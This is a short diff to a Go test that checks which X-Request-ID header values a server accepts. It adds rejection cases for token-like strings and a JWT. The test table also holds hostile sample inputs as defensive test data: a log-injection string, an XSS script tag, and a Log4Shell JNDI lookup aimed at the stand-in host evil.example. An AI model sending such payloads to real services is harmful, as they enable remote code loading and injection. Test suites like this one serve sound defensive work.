@@ -71,6 +71,9 @@ func TestRequestID(t *testing.T) {
 		{`"}{"level":"ERROR`, false},
 		{"<script>alert(1)</script>", false},
 		{"${jndi:ldap://evil.example}", false},
+		{"rt_" + strings.Repeat("x", 45), false}, // a token is for no log
+		{"eyJhbGciOiJIUzI1NiJ9.e30.c2lnbmF0dXJl", false},
+		{"rt_1.eyJ", true}, // looks like none
 	} {
 		for _, r := range []request{get("/health"), get("/nothing"), get(mePath)} {
 			response, body := s.send(t, r.with("X-Request-ID", test.sent))
